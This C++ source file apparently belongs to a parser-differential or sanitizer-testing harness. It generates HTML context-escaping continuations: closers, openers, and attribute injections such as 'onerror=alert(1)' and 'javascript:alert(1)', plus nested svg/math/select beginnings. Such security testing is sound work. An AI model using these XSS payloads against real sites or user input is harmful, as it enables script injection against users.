#include "core/holes/payloads.h"

#include <fmt/core.h>

namespace specdrift::holes {
namespace {

using namespace std::string_view_literals;

/// Texts that end a construct.
constexpr std::string_view closers[] = {"-->",
                                        ">",
                                        "\">",
                                        "'>",
                                        "--!>",
                                        "]]>",
                                        "?>",
                                        "</script>",
                                        "</style>",
                                        "</title>",
                                        "</textarea>",
                                        "</xmp>",
                                        "</noscript>",
                                        "</iframe>",
                                        "</noembed>",
                                        "</noframes>",
                                        "->",
                                        "--->",
                                        " -->",
                                        "%>",
                                        "z>",
                                        "=>",
                                        "`>",
                                        ";",
                                        "</script/>",
                                        "</title x>",
                                        "</svg>",
                                        "-->z</title>",
                                        "-->z</style>",
                                        "-->z</script>",
                                        "</script>-->z</script>"};

/// Texts that open one.
constexpr std::string_view openers[] = {"<a ",
                                        "<a b=\"",
                                        "<a b='",
                                        "<a b=",
                                        "<!--",
                                        "<svg>",
                                        "<math>",
                                        "<svg><style>",
                                        "<math><style>",
                                        "<title>",
                                        "<textarea>",
                                        "<style>",
                                        "<script>",
                                        "<script><!--",
                                        "<script><!--<script>",
                                        "<xmp>",
                                        "<iframe>",
                                        "<noscript>",
                                        "<noembed>",
                                        "<select>",
                                        "<svg><![CDATA[",
                                        "<img src=x onerror=alert(1) ",
                                        "<a href=\"javascript:"};

constexpr std::string_view attributes[] = {" onerror=alert(1)",
                                           " onerror=alert(1)>",
                                           "/onerror=alert(1)>",
                                           "\" onerror=alert(1) b=\"\">",
                                           "' onerror=alert(1) b=''>",
                                           "\"onerror=alert(1)>",
                                           "=\" onerror=alert(1) \">",
                                           "=' onerror=alert(1) '>",
                                           "b=\" onerror=alert(1) \">",
                                           "onerror=alert(1)>",
                                           "`onerror=alert(1) `>",
                                           ">\" onerror=alert(1)>",
                                           "a b=\"><img src=x onerror=alert(1)>\">",
                                           "a b='><img src=x onerror=alert(1)>'>",
                                           " href=javascript:alert(1)>"};

/// After what opens a construct, these alone.
constexpr std::string_view few_closers[] = {
    "", ">", "-->", "\">", "'>", "]]>", "</script>", "</style>", "</title>", "</textarea>"};
constexpr std::string_view few_attributes[] = {" onerror=alert(1)>", "\" onerror=alert(1) b=\"\">",
                                               "' onerror=alert(1) b=''>", "\">", ">"};

std::vector<Continuation> make() {
  std::vector<Continuation> all;
  const auto add = [&](std::string_view before, std::string after) {
    all.push_back({std::string(before), std::move(after)});
  };
  // Those that notice most.
  add("", "");
  add("", std::string(payload));
  for (const std::string_view closer : {"-->"sv, ">"sv, "\">"sv, "</title>"sv})
    add("", fmt::format("{}{}", closer, payload));
  add("", fmt::format("<a title=\"-->{}\">", payload));
  add("", fmt::format("{}-->", payload));
  add("", " onerror=alert(1)>");
  add("", "z>z<u>");

  for (const std::string_view closer : closers) add("", fmt::format("{}{}", closer, payload));
  for (const std::string_view closer : closers) add("", fmt::format("{}{}", payload, closer));
  for (const std::string_view attribute : attributes) add("", std::string(attribute));
  for (const std::string_view closer : closers) {
    const bool ends_value = closer.find('"') != closer.npos;
    add("", fmt::format("<a title={0}{1}{2}{0}>", ends_value ? '\'' : '"', closer, payload));
  }
  for (const std::string_view closer : closers) {
    if (closer.find("->") == closer.npos) add("", fmt::format("<!--{}{}-->", closer, payload));
    add("", fmt::format("<style>{}{}</style>", closer, payload));
  }
  add("", fmt::format("<!--{}-->", payload));
  add("", fmt::format("<title>{}</title>", payload));
  add("", fmt::format("<script>{}</script>", payload));
  // The name of an element that acts, and what is before an end of the file within a tag.
  add("", "script");
  // Values and texts that act by themselves.
  add("<svg><script>", "");
  add("<svg><script>", ";");
  add("<i onerror=", ">");
  add("<i onerror=\"", "\">");
  // The quotes of a DOCTYPE.
  for (const std::string_view before : {" ", "", " a ", "a "})
    add("", fmt::format("{}public \">{}\">", before, payload));
  for (const std::string_view opener : openers) {
    add(opener, "");
    for (const std::string_view closer : few_closers)
      add(opener, fmt::format("{}{}", closer, payload));
    for (const std::string_view attribute : few_attributes) add(opener, std::string(attribute));
  }
  return all;
}

constexpr std::string_view text_elements[] = {"style",    "script",   "title",   "textarea",
                                              "xmp",      "iframe",   "noembed", "noframes",
                                              "noscript", "plaintext"};

/// Beginnings that a text element may stand in, or after.
constexpr std::string_view opened_elements[] = {"",
                                                "<svg>",
                                                "<math>",
                                                "<svg></p>",
                                                "<math></p>",
                                                "<svg></br>",
                                                "<svg><p>",
                                                "<svg><font color=x>",
                                                "<svg><desc>",
                                                "<svg><title>",
                                                "<svg><foreignObject>",
                                                "<math><mi>",
                                                "<math><mi><mglyph>",
                                                "<math><annotation-xml>",
                                                "<math><annotation-xml encoding=text/html>",
                                                "<select>",
                                                "<table><select>",
                                                "<select><svg>",
                                                "<frameset>",
                                                "<table>",
                                                "<template>",
                                                "<noscript>"};

}  // namespace

std::span<const Continuation> continuations() {
  static const std::vector<Continuation> all = make();
  return all;
}

std::span<const std::string> tree_beginnings() {
  static const std::vector<std::string> all = [] {
    std::vector<std::string> made;
    for (const std::string_view opened : opened_elements) {
      for (const std::string_view element : text_elements)
        made.push_back(fmt::format("{}<{}>", opened, element));
      made.push_back(fmt::format("{}<![CDATA[", opened));
    }
    return made;
  }();
  return all;
}

std::size_t screening_continuations() {
  return 10;
}

}  // namespace specdrift::holes
